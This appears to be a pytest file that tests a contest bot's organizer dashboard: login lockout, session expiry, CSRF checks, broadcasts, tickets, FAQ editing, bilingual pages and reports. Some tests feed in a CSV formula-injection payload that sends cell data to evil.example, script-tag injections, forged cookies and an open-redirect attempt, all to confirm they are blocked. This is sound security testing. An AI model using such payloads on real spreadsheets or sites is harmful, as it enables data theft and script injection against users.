"""The organizers' dashboard in a real browser (headless Chromium driven by Playwright): log in,
see a registration, send a broadcast and see its counts; and no page opens without logging in."""

from __future__ import annotations

import shutil
from collections.abc import AsyncIterator
from datetime import timedelta
from pathlib import Path

import aiohttp
import pytest
import yarl
from itsdangerous import URLSafeTimedSerializer
from pydantic import SecretStr
from sqlalchemy import select

from bot.config import Settings
from bot.core.app import Core
from bot.dashboard.access import OVERALL, DashboardAccess
from bot.dashboard.app import add_dashboard
from bot.messages import Reply, SendResult, Target
from bot.ops.http import service_app
from bot.outbox.worker import DeliveryWorker
from bot.runtime import start_core
from bot.storage.models import FaqEntry
from tests.conftest import (
    CHROMIUM,
    ORGANIZER_ID,
    ManualClock,
    Member,
    Outbox,
    launch_chromium,
    served,
)

TOKEN = "dashboard-token-for-tests-0123456789"
PAGES = [
    "/dashboard/",
    "/dashboard/registrations",
    "/dashboard/registrations.csv",
    "/dashboard/broadcasts",
    "/dashboard/deadlines",
    "/dashboard/unanswered",
    "/dashboard/tickets",
    "/dashboard/faq",
    "/dashboard/report",
    "/dashboard/documents",
]
needs_chromium = pytest.mark.skipif(
    shutil.which("chromium") is None,
    reason="Debian's chromium is not installed (.ci/run installs it)",
)


def jar() -> aiohttp.CookieJar:
    return aiohttp.CookieJar(unsafe=True)  # unsafe: keep cookies for an IP-address host


@pytest.fixture
def public_url() -> str | None:
    return None


@pytest.fixture
async def site(
    settings: Settings, clock: ManualClock, public_url: str | None
) -> AsyncIterator[tuple[str, Core]]:
    core = await start_core(
        settings.model_copy(update={"dashboard_token": SecretStr(TOKEN), "public_url": public_url}),
        clock,
    )
    app = service_app(core.services.database, {})
    add_dashboard(app, core.services, TOKEN)
    async with served(app) as base:
        yield base, core
    await core.services.database.close()


async def test_every_page_refuses_access_without_login(site: tuple[str, Core]) -> None:
    base, _ = site
    async with aiohttp.ClientSession() as http:
        for page in PAGES:
            async with http.get(base + page, allow_redirects=False) as response:
                assert response.status == 303 and response.headers["Location"] == (
                    "/dashboard/login"
                ), page
        async with http.post(
            base + "/dashboard/broadcasts/preview", data={"text": "x"}, allow_redirects=False
        ) as response:
            assert response.status == 303
        async with http.post(base + "/dashboard/login", data={"token": "wrong"}) as response:
            assert response.status == 401
        forged = {"cb_session": "eyJjc3JmIjoieCJ9.forged.signature"}
        async with http.get(
            base + "/dashboard/", cookies=forged, allow_redirects=False
        ) as response:
            assert response.status == 303
        # A cookie signed with the organizer token itself (anyone who knows it could mint one).
        minted = URLSafeTimedSerializer(TOKEN, salt="community-bot dashboard").dumps({"csrf": "x"})
        async with http.get(
            base + "/dashboard/", cookies={"cb_session": minted}, allow_redirects=False
        ) as response:
            assert response.status == 303


async def log_in(
    http: aiohttp.ClientSession, base: str, token: str = TOKEN
) -> aiohttp.ClientResponse:
    async with http.post(
        base + "/dashboard/login", data={"token": token}, allow_redirects=False
    ) as response:
        await response.read()
        return response


async def test_guessing_the_token_is_stopped_with_a_clear_wait(
    site: tuple[str, Core], clock: ManualClock
) -> None:
    base, _ = site
    async with aiohttp.ClientSession(cookie_jar=jar()) as http:
        statuses = [(await log_in(http, base, f"guess-{n}")).status for n in range(300)]
        assert statuses[:5] == [401] * 5 and set(statuses[5:]) == {429}
        async with http.post(base + "/dashboard/login", data={"token": "guess"}) as refused:
            assert "Try again in 900 s" in await refused.text()
            assert refused.headers["Retry-After"] == "900"
        # While locked, even the right token is not tried (else guessing would go on).
        assert (await log_in(http, base)).status == 429
        clock.advance(timedelta(minutes=10))
        async with http.post(base + "/dashboard/login", data={"token": "guess"}) as refused:
            assert "Try again in 300 s" in await refused.text()
        clock.advance(timedelta(minutes=5, seconds=1))
        assert (await log_in(http, base)).status == 303


async def test_failed_logins_from_many_clients_are_limited_overall(
    site: tuple[str, Core], clock: ManualClock
) -> None:
    _, core = site
    access = DashboardAccess(core.services.database, TOKEN, timedelta(minutes=30))
    for n in range(OVERALL):
        outcome = await access.log_in("wrong", f"10.0.{n // 200}.{n % 200}", clock.now())
        assert outcome.retry_after == 0 and outcome.session_cookie is None
    locked = await access.log_in(TOKEN, "192.0.2.7", clock.now())
    assert locked.retry_after > 0 and locked.session_cookie is None


async def test_logout_and_idleness_end_the_session_wherever_the_cookie_is(
    site: tuple[str, Core], clock: ManualClock
) -> None:
    base, _ = site
    async with aiohttp.ClientSession(cookie_jar=jar()) as http:
        await log_in(http, base)
        cookie = {
            "cb_session": http.cookie_jar.filter_cookies(yarl.URL(base + "/dashboard/"))[
                "cb_session"
            ].value
        }
        async with http.get(base + "/dashboard/") as page:
            csrf = _csrf(await page.text())
        await http.post(base + "/dashboard/logout", data={"csrf": csrf})
    async with aiohttp.ClientSession() as thief:  # the copied cookie, after the logout
        async with thief.get(base + "/dashboard/", cookies=cookie, allow_redirects=False) as page:
            assert page.status == 303
        async with thief.post(
            base + "/dashboard/broadcasts/preview",
            data={"text": "Free pizza", "audience": "everyone", "csrf": csrf},
            cookies=cookie,
            allow_redirects=False,
        ) as preview:
            assert preview.status == 303

    async with aiohttp.ClientSession(cookie_jar=jar()) as http:
        await log_in(http, base)
        clock.advance(timedelta(minutes=29))
        async with http.get(base + "/dashboard/", allow_redirects=False) as page:
            assert page.status == 200  # still in use
        clock.advance(timedelta(minutes=31))
        async with http.get(base + "/dashboard/", allow_redirects=False) as page:
            assert page.status == 303  # idle too long


def _csrf(html: str) -> str:
    return html.split('name="csrf" value="', 1)[1].split('"', 1)[0]


async def test_the_cookie_is_httponly_and_not_secure_over_plain_http(
    site: tuple[str, Core],
) -> None:
    base, _ = site
    async with aiohttp.ClientSession(cookie_jar=jar()) as http:
        cookie = (await log_in(http, base)).cookies["cb_session"]
    assert cookie["httponly"] and cookie["samesite"] == "Strict" and not cookie["secure"]


@pytest.mark.parametrize("public_url", ["https://bot.example.org"])
async def test_the_cookie_is_secure_behind_https(site: tuple[str, Core]) -> None:
    base, _ = site
    async with aiohttp.ClientSession(cookie_jar=jar()) as http:
        cookie = (await log_in(http, base)).cookies["cb_session"]
    assert cookie["secure"]


async def test_the_csv_download_neutralises_formulas(site: tuple[str, Core]) -> None:
    base, core = site
    member = Member(core, user_id="13", name="@admin")
    await member.says("/register aigc-app")
    await member.says('=HYPERLINK("http://evil.example/?"&A1,"x")')
    async with aiohttp.ClientSession(cookie_jar=jar()) as http:
        await log_in(http, base)
        async with http.get(base + "/dashboard/registrations.csv") as download:
            text = (await download.read()).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "'@admin" in text
    assert "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text


async def test_a_form_without_the_session_csrf_token_is_refused(site: tuple[str, Core]) -> None:
    base, _ = site
    async with aiohttp.ClientSession(cookie_jar=jar()) as http:
        await http.post(base + "/dashboard/login", data={"token": TOKEN})
        async with http.get(base + "/dashboard/", allow_redirects=False) as response:
            assert response.status == 200  # logged in
        async with http.post(
            base + "/dashboard/broadcasts/preview", data={"text": "Hello", "audience": "everyone"}
        ) as response:
            assert response.status == 403


@needs_chromium
async def test_organizer_logs_in_sees_a_registration_and_sends_a_broadcast(
    site: tuple[str, Core],
) -> None:
    from playwright.async_api import async_playwright

    base, core = site
    await Member(core, user_id="11", name="张伟", locale="zh").says("/register aigc-app")
    await Member(core, user_id="11", name="张伟", locale="zh").says("声音魔方")
    await Member(core, user_id="12", name="Bo").says("hello")

    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(
            executable_path=CHROMIUM,
            headless=True,
            args=[
                "--no-sandbox",
                "--disable-gpu",
                "--disable-quic",
                "--no-first-run",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
            ],
        )
        page = await browser.new_page()
        await page.goto(base + "/dashboard/registrations")
        assert page.url.endswith("/dashboard/login")
        await page.fill("input[name=token]", TOKEN)
        await page.click("text=Log in")
        await page.goto(base + "/dashboard/registrations")
        table = await page.inner_text("#registrations")  # the browser asks for English
        assert "张伟" in table and "AIGC Application Innovation" in table and "声音魔方" in table
        assert "1" in await page.inner_text("#per-track")
        await page.click("#languages >> text=中文")  # the switch keeps the page and its language
        assert page.url.endswith("/dashboard/registrations")
        assert "AIGC应用创新" in await page.inner_text("#registrations")
        assert await page.inner_text("h1") == "报名" and "下载 CSV" in await page.inner_text("body")
        await page.goto(base + "/dashboard/tickets")
        assert await page.inner_text("h1") == "工单"  # remembered from page to page
        await page.click("#languages >> text=English")

        await page.goto(base + "/dashboard/broadcasts")
        await page.fill("textarea[name=text]", "决赛将在长沙举行 / The final is in Changsha")
        await page.select_option("select[name=audience]", "platform:telegram")
        await page.click("text=Preview")
        preview = await page.inner_text("body")
        assert "Nothing is sent until you confirm" in preview and "telegram: 2 members" in preview
        await page.click("#confirm")
        assert "is on its way" in await page.inner_text("body")

        delivered: list[str] = []

        async def send(target: Target, reply: Reply) -> SendResult:
            delivered.append(target.chat_id)
            return SendResult.sent("1")

        worker = DeliveryWorker(core.services.database, {"telegram": send}, {}, core.services.clock)
        while await worker.run_once():
            pass
        await page.goto(base + "/dashboard/broadcasts")
        row = await page.inner_text("#broadcasts tr:nth-child(2)")
        assert "The final is in Changsha" in row and "done" in row
        assert (await page.inner_text("#broadcasts tr:nth-child(2) .sent")).strip() == "2"
        await browser.close()
    assert sorted(delivered) == ["11", "12"]


async def csrf_of(http: aiohttp.ClientSession, url: str) -> str:
    async with http.get(url) as page:
        html = await page.text()
    return html.split('name="csrf" value="', 1)[1].split('"', 1)[0]


async def test_a_broadcast_to_a_stage_reaches_exactly_that_stage_on_the_chosen_platform(
    site: tuple[str, Core],
) -> None:
    from tests.test_audiences import contest_in_progress, fay_alone_in_a_team

    base, core = site
    await contest_in_progress(core)  # solo: Ann (Telegram) and Eve (Discord); Bo and Cy a team
    await fay_alone_in_a_team(core)
    async with aiohttp.ClientSession(cookie_jar=jar()) as http:
        await log_in(http, base)
        async with http.get(base + "/dashboard/broadcasts") as page:
            offered = await page.text()
        for audience in ("solo", "solo@discord", "smallteams:2", "smallteams:5@telegram"):
            assert f'<option value="{audience}">' in offered
        expected = {
            "solo": ("Registered, without a team", {"telegram": 1, "discord": 1}, {"1", "5"}),
            "solo@discord": (
                "Registered, without a team, on Discord",
                {"telegram": 0, "discord": 1},
                {"5"},
            ),
            "smallteams:2": ("Teams of fewer than 2", {"telegram": 1, "discord": 0}, {"6"}),
        }
        for audience, (label, reach, members) in expected.items():
            csrf = await csrf_of(http, base + "/dashboard/broadcasts")
            form = {"csrf": csrf, "text": f"News for {audience}", "audience": audience}
            async with http.post(base + "/dashboard/broadcasts/preview", data=form) as preview:
                html = await preview.text()
            assert f"Audience: {label} —" in html, html
            for platform, count in reach.items():
                assert f"{platform}: {count} members" in html
            number = html.split("/dashboard/broadcasts/", 1)[1].split("/confirm", 1)[0]
            confirm = f"{base}/dashboard/broadcasts/{number}/confirm"
            async with http.post(confirm, data={"csrf": csrf}) as confirmed:
                assert "is on its way" in await confirmed.text()
            sent = await Outbox().deliver(core)
            received = {t.chat_id for t, r in sent if r.text == f"News for {audience}"}
            assert received == members, audience


async def test_tickets_are_answered_and_published_from_the_dashboard(
    site: tuple[str, Core],
) -> None:
    base, core = site
    member = Member(core, user_id="31", name="Mei")
    await member.says("/human Can two people share one <b>entry</b>?")
    async with aiohttp.ClientSession(cookie_jar=jar()) as http:
        await log_in(http, base)
        async with http.get(base + "/dashboard/tickets") as page:
            html = await page.text()
        assert "Can two people share one &lt;b&gt;entry&lt;/b&gt;?" in html  # escaped
        csrf = await csrf_of(http, base + "/dashboard/tickets")
        async with http.post(
            base + "/dashboard/tickets/1/answer",
            data={"csrf": csrf, "answer": "Yes, as one team."},
        ) as answered:
            assert "Ticket #1 answered" in await answered.text()
        [(_, sent_answer)] = await Outbox().deliver(core)
        await member.presses(sent_answer.buttons[0].payload)  # the member replies: reopened
        await member.says("I am Mei Chen, my team is the Blue Foxes")
        again = {"csrf": csrf, "answer": "Yes, as one team."}
        async with http.post(base + "/dashboard/tickets/1/answer", data=again) as answered:
            assert "Ticket #1 answered" in await answered.text()
        async with http.post(base + "/dashboard/tickets/1/publish", data={"csrf": csrf}) as bare:
            assert "Write the question as it should be published" in await bare.text()
        async with http.get(base + "/dashboard/tickets") as page:
            form = (await page.text()).split('class="publish"', 1)[1].split("</form>", 1)[0]
        # The question field is the member's question, for the organizer to word.
        assert 'value="Can two people share one &lt;b&gt;entry&lt;/b&gt;?"' in form
        assert "Blue Foxes" not in form  # never the member's later replies
        worded = {"csrf": csrf, "question": "Can two people share one entry?"}
        async with http.post(base + "/dashboard/tickets/1/publish", data=worded) as done:
            assert "FAQ #1 published from ticket #1" in await done.text()
        async with http.post(base + "/dashboard/tickets/1/publish", data=worded) as again:
            assert "FAQ #1 is unchanged" in await again.text()  # sent twice: one entry
    assert sent_answer.text.endswith("Yes, as one team.")
    async with core.services.database.session() as session:
        [entry] = (await session.scalars(select(FaqEntry))).all()
    assert entry.question_en == "Can two people share one entry?"
    [answer] = await Member(core, user_id="32").says("can two people share one entry?")
    assert "Yes, as one team." in answer.text and "FAQ ›" in answer.text


async def test_the_tickets_and_faq_pages_speak_chinese(site: tuple[str, Core]) -> None:
    base, core = site
    await Member(core, user_id="33").says("/human 决赛那天有午饭吗？")
    await Member(core, user_id=ORGANIZER_ID).says("/reply 1 有，中午十二点。")
    await Member(core, user_id=ORGANIZER_ID).says("/faq add 会场有Wi-Fi吗？ | 有，免费。")
    chinese = {"Accept-Language": "zh-CN,zh;q=0.9"}
    async with aiohttp.ClientSession(cookie_jar=jar(), headers=chinese) as http:
        await log_in(http, base)
        async with http.get(base + "/dashboard/tickets") as page:
            tickets = await page.text()
        async with http.get(base + "/dashboard/faq") as page:
            faq = await page.text()
    assert "<h1>工单</h1>" in tickets and "最近已回答" in tickets
    assert "发布为 FAQ" in tickets and "发布时的问题" in tickets
    assert 'value="决赛那天有午饭吗？"' in tickets
    assert "新增条目" in faq and "下线" in faq and "会场有Wi-Fi吗？" in faq
    assert "Answered lately" not in tickets and "Add an entry" not in faq


async def test_a_tickets_answer_is_translated_and_published_from_the_dashboard(
    settings: Settings, clock: ManualClock
) -> None:
    """With a model: the organizer drafts the other language, corrects it in the form, sends it
    to the member too, and the published entry carries both languages."""
    from tests.fakes.openai_api import FakeOpenAIServer
    from tests.test_llm import llm_settings

    model = FakeOpenAIServer()
    await model.start()
    update = {"dashboard_token": SecretStr(TOKEN)}
    core = await start_core(llm_settings(settings.model_copy(update=update), model), clock)
    app = service_app(core.services.database, {})
    add_dashboard(app, core.services, TOKEN)
    try:
        await Member(core, user_id="34").says("/human Is lunch provided at the final?")
        async with served(app) as base, aiohttp.ClientSession(cookie_jar=jar()) as http:
            await log_in(http, base)
            csrf = await csrf_of(http, base + "/dashboard/tickets")
            answer = {"csrf": csrf, "answer": "Yes, at noon."}
            async with http.post(base + "/dashboard/tickets/1/answer", data=answer) as page:
                assert "Draft the other language" in await page.text()
            model.script("Q: 决赛提供午餐吗？\nA: 提供，中午12点。")
            async with http.post(base + "/dashboard/tickets/1/draft", data={"csrf": csrf}) as page:
                form = (await page.text()).split('class="translation"', 1)[1]
            assert 'value="决赛提供午餐吗？"' in form and "提供，中午12点。" in form
            corrected = {"csrf": csrf, "question": "决赛管午饭吗？", "answer": "管，中午十二点。"}
            async with http.post(base + "/dashboard/tickets/1/translation", data=corrected) as page:
                assert "the member gets this version too" in await page.text()
            worded = {
                "csrf": csrf,
                "question": "Is lunch provided at the final?",
                "translated_question": "决赛管午饭吗？",
            }
            async with http.post(base + "/dashboard/tickets/1/publish", data=worded) as page:
                assert "FAQ #1 published" in await page.text()
        sent = [reply.text for target, reply in await Outbox().deliver(core)]
        assert any("Yes, at noon." in text for text in sent)
        assert any("管，中午十二点。" in text for text in sent)
        assert not any("中午12点" in text for text in sent)  # the draft never went out
        async with core.services.database.session() as session:
            [entry] = (await session.scalars(select(FaqEntry))).all()
        assert (entry.question_en, entry.answer_en) == (
            "Is lunch provided at the final?",
            "Yes, at noon.",
        )
        assert (entry.question_zh, entry.answer_zh) == ("决赛管午饭吗？", "管，中午十二点。")
    finally:
        await core.services.database.close()
        await model.stop()


async def test_faq_entries_are_added_and_retired_and_content_reloaded_from_the_dashboard(
    site: tuple[str, Core],
) -> None:
    base, core = site
    async with aiohttp.ClientSession(cookie_jar=jar()) as http:
        await log_in(http, base)
        csrf = await csrf_of(http, base + "/dashboard/faq")
        form = {"csrf": csrf, "question": "Is there Wi-Fi at the venue?", "answer": "Yes, free."}
        async with http.post(base + "/dashboard/faq/add", data=form) as added:
            assert "FAQ #1 published" in await added.text()
        assert "Yes, free." in (await Member(core).says("Is there Wi-Fi at the venue?"))[0].text
        async with http.post(base + "/dashboard/faq/1/retire", data={"csrf": csrf}) as retired:
            assert "FAQ #1 retired" in await retired.text()
        assert "Yes, free." not in (await Member(core).says("Is there Wi-Fi at the venue?"))[0].text
        async with http.post(base + "/dashboard/reload", data={"csrf": csrf}) as reloaded:
            assert "Content reloaded" in await reloaded.text()


async def test_a_reload_from_the_dashboard_that_fails_the_check_changes_nothing(
    settings: Settings, clock: ManualClock, tmp_path: Path
) -> None:
    from bot.config import BUNDLED_CONTENT_DIR

    content = Path(shutil.copytree(BUNDLED_CONTENT_DIR, tmp_path / "content"))
    update = {"dashboard_token": SecretStr(TOKEN), "content_dir": content}
    core = await start_core(settings.model_copy(update=update), clock)
    app = service_app(core.services.database, {})
    add_dashboard(app, core.services, TOKEN)
    page = content / "knowledge" / "community.en.md"
    page.write_text(page.read_text("utf-8") + "\n## Mascot\n\nA panda named Xiaoxiang.\n")
    (content / "knowledge" / "community.zh.md").write_text("no title, no sections", "utf-8")
    try:
        async with served(app) as base, aiohttp.ClientSession(cookie_jar=jar()) as http:
            await log_in(http, base)
            csrf = await csrf_of(http, base + "/dashboard/faq")
            async with http.post(base + "/dashboard/reload", data={"csrf": csrf}) as reloaded:
                report = await reloaded.text()
        assert "Nothing was reloaded" in report and "community.zh.md" in report
        [answer] = await Member(core).says("What is the contest's mascot?")
        assert "Xiaoxiang" not in answer.text
        assert "AIGC Creative Works" in (await Member(core).says("Which tracks are there?"))[0].text
    finally:
        await core.services.database.close()


async def seed_the_answer_loop(core: Core, clock: ManualClock) -> None:
    """A few days of questions: answered, rated, handed to a person and answered."""
    organizer = Member(core, user_id=ORGANIZER_ID)
    for day in range(3):
        for n in range(3):
            member = Member(core, user_id=f"4{day}{n}")
            [answer] = await member.says("Which tracks are there?")
            rating = [b for b in answer.buttons if b.label in ("Helpful", "Not helpful")]
            await member.presses(rating[n % 2].payload)
        asker = Member(core, user_id=f"5{day}")
        await asker.says(f"/human Is there <script>alert({day})</script> parking on day {day}?")
        clock.advance(timedelta(hours=2 + day))
        await organizer.says(f"/reply {day + 1} Yes.")
        clock.advance(timedelta(days=1))


async def test_the_report_draws_the_loop_as_charts_and_escapes_what_members_wrote(
    site: tuple[str, Core], clock: ManualClock
) -> None:
    base, core = site
    await seed_the_answer_loop(core, clock)
    for user in ("60", "61"):
        await Member(core, user_id=user).says("What colour are the <b>chairs</b> in zorblax hall?")
    async with aiohttp.ClientSession(cookie_jar=jar()) as http:
        await log_in(http, base)
        async with http.get(base + "/dashboard/report") as page:
            html = await page.text()
    assert html.count("<svg") == 4
    assert "answered" in html and "to a person" in html  # the legend
    assert "67%" in html or "33%" in html or "50%" in html  # a helpful rate was drawn
    # The unanswered topics are a chart too: the question asked twice, escaped.
    chart = html.split('id="unanswered-chart"', 1)[1].split("</svg>", 1)[0]
    escaped = "What colour are the &lt;b&gt;chairs&lt;/b&gt; in zorblax hall?"
    assert f"<title>{escaped}: 2</title>" in chart
    assert "<script>" not in html and "<b>" not in html


async def test_the_report_counts_faq_and_model_answers_under_their_outcomes(
    settings: Settings, clock: ManualClock
) -> None:
    from tests.fakes.openai_api import FakeOpenAIServer
    from tests.test_llm import PRIZES_EN, llm_settings

    model = FakeOpenAIServer()
    await model.start()
    update = {"dashboard_token": SecretStr(TOKEN)}
    core = await start_core(llm_settings(settings.model_copy(update=update), model), clock)
    app = service_app(core.services.database, {})
    add_dashboard(app, core.services, TOKEN)
    try:
        organizer = Member(core, user_id=ORGANIZER_ID)
        await organizer.says("/faq add Is there Wi-Fi at the venue? | Yes, it is free.")
        for user, question, scripted in (
            ("71", "Is there Wi-Fi at the venue?", "Yes, the Wi-Fi is free [1]."),
            ("72", "How many prizes does each track have?", PRIZES_EN),
            ("73", "How many prizes does each track have?", None),  # from the cache
        ):
            if scripted is not None:
                model.script(scripted)
            [reply] = await Member(core, user_id=user).says(question)
            if reply.stream is not None:
                async for _ in reply.stream:
                    pass
        async with served(app) as base, aiohttp.ClientSession(cookie_jar=jar()) as http:
            await log_in(http, base)
            async with http.get(base + "/dashboard/report") as page:
                html = await page.text()
    finally:
        await core.services.database.close()
        await model.stop()
    day = clock.now().strftime("%m-%d")
    chart = html.split('id="per-day"', 1)[1].split("</svg>", 1)[0]
    assert f"<title>{day} · FAQ: 1</title>" in chart
    assert f"<title>{day} · LLM: 2</title>" in chart


@needs_chromium
async def test_the_report_page_in_chromium_with_a_screenshot(
    site: tuple[str, Core], clock: ManualClock
) -> None:
    from playwright.async_api import async_playwright

    from bot.config import PROJECT_ROOT

    base, core = site
    await seed_the_answer_loop(core, clock)
    unanswered = ["Is there parking at the venue?", "Can I park my car?", "会场里能借到充电宝吗？"]
    for user, question in enumerate(unanswered):
        await Member(core, user_id=f"9{user}").says(question)
    artifacts = PROJECT_ROOT / "test-artifacts"
    artifacts.mkdir(exist_ok=True)
    async with async_playwright() as playwright:
        browser = await launch_chromium(playwright)
        page = await browser.new_page(viewport={"width": 1000, "height": 900})
        await page.goto(base + "/dashboard/login")
        await page.fill("input[name=token]", TOKEN)
        await page.click("text=Log in")
        await page.goto(base + "/dashboard/report")
        assert await page.locator("#per-day svg rect").count() >= 9  # stacked bars and legend
        assert await page.locator("#helpful svg").is_visible()
        [parking, power_bank] = (await page.inner_text("#unanswered")).split("\n\n")
        assert "2\t" in parking and "Also asked as:" in parking and "Is there parking" in parking
        assert "1\t会场里能借到充电宝吗？" in power_bank
        await page.screenshot(path=str(artifacts / "dashboard-report.png"), full_page=True)
        chinese = await browser.new_page(viewport={"width": 1000, "height": 900}, locale="zh-CN")
        await chinese.goto(base + "/dashboard/login")
        await chinese.fill("input[name=token]", TOKEN)
        await chinese.click("button:has-text('登录')")
        await chinese.goto(base + "/dashboard/report")
        assert await chinese.inner_text("h1") == "问答报告"
        assert "转人工" in await chinese.inner_text("#per-day")  # the legend is translated too
        await chinese.screenshot(path=str(artifacts / "dashboard-report-zh.png"), full_page=True)
        await browser.close()
    assert (artifacts / "dashboard-report.png").stat().st_size > 10_000


async def test_pages_follow_the_browsers_language_and_the_switch(site: tuple[str, Core]) -> None:
    base, _ = site
    chinese_browser = {"Accept-Language": "zh-CN,zh;q=0.9,en;q=0.8"}
    async with aiohttp.ClientSession(cookie_jar=jar(), headers=chinese_browser) as http:
        async with http.get(base + "/dashboard/login") as login:
            assert "组织者令牌" in await login.text()
        async with http.post(base + "/dashboard/login", data={"token": "wrong"}) as refused:
            assert "令牌不正确" in await refused.text()
        await log_in(http, base)
        for page, heading in [("/dashboard/", "概览"), ("/dashboard/report", "问答报告")]:
            async with http.get(base + page) as response:
                html = await response.text()
            assert f"<h1>{heading}</h1>" in html and 'lang="zh-CN"' in html, page
        async with http.get(base + "/dashboard/report") as report:
            assert "最常见的未解答话题" in await report.text()
        async with http.get(
            base + "/dashboard/language?to=en&back=/dashboard/report", allow_redirects=False
        ) as switched:
            assert switched.status == 303 and switched.headers["Location"] == "/dashboard/report"
        async with http.get(base + "/dashboard/report") as report:
            assert "<h1>Answers report</h1>" in await report.text()  # the choice beats the browser
        async with http.get(
            base + "/dashboard/language?to=zh&back=https://evil.example/", allow_redirects=False
        ) as elsewhere:
            assert elsewhere.headers["Location"] == "/dashboard/"  # the switch is no open redirect
    english_browser = {"Accept-Language": "en-GB,en;q=0.9,zh;q=0.5"}
    async with (
        aiohttp.ClientSession(cookie_jar=jar(), headers=english_browser) as http,
        http.get(base + "/dashboard/login") as login,
    ):
        assert "Organizer token" in await login.text()


async def test_an_faq_entry_is_edited_in_place_in_both_languages(site: tuple[str, Core]) -> None:
    base, core = site
    async with aiohttp.ClientSession(cookie_jar=jar()) as http:
        await log_in(http, base)
        csrf = await csrf_of(http, base + "/dashboard/faq")
        form = {"csrf": csrf, "question": "Is there Wi-Fi at the venue?", "answer": "Yes."}
        async with http.post(base + "/dashboard/faq/add", data=form):
            pass
        edit = {
            "csrf": csrf,
            "question_en": "Is there Wi-Fi at the venue?",
            "answer_en": "Yes, the network is CommunityGuest.",
            "question_zh": "决赛现场有无线网络吗？",
            "answer_zh": "有，网络名称是 CommunityGuest。",
        }
        async with http.post(base + "/dashboard/faq/1/edit", data=edit) as edited:
            assert "FAQ #1 is now version 2" in await edited.text()
        async with http.post(base + "/dashboard/faq/1/edit", data=edit) as again:
            assert "FAQ #1 is unchanged" in await again.text()
        async with http.post(
            base + "/dashboard/faq/1/edit", data={"csrf": csrf, "question_en": "Only a question"}
        ) as half:
            assert "Write a question and its answer in at least one language" in await half.text()
        async with http.post(base + "/dashboard/faq/9/edit", data=edit) as missing:
            assert "There is no FAQ entry #9" in await missing.text()
        async with http.get(base + "/dashboard/faq") as page:
            html = await page.text()
        assert 'value="决赛现场有无线网络吗？"' in html  # the form shows what is live
    [english] = await Member(core).says("Is there Wi-Fi at the venue?")
    assert "CommunityGuest" in english.text
    [chinese] = await Member(core, user_id="77", locale="zh").says("决赛现场有无线网络吗？")
    assert "有，网络名称是 CommunityGuest" in chinese.text


async def test_the_report_groups_unanswered_questions_into_topics(
    site: tuple[str, Core],
) -> None:
    base, core = site
    parking, other = (
        # Read as the bot reads a question: in simplified characters, without a typed mention.
        ["比赛现场有停车位吗？", "@机器人 比賽現場有停車位嗎？", "决赛场地能停车吗"],
        "会场里能借到充电宝吗？",
    )
    for user, question in enumerate([*parking, other]):
        await Member(core, user_id=f"8{user}", locale="zh").says(question)
    async with aiohttp.ClientSession(cookie_jar=jar()) as http:
        await log_in(http, base)
        async with http.get(base + "/dashboard/report") as page:
            html = await page.text()
    rows = html.split('<table id="unanswered">', 1)[1].split("</table>", 1)[0].split("<tr>")[2:]
    assert len(rows) == 2, rows  # parking (asked three times, two ways) and a power bank
    assert "<td>3</td>" in rows[0] and "停车位" in rows[0] and "决赛场地能停车吗" in rows[0]
    assert "<td>1</td>" in rows[1] and "充电宝" in rows[1]
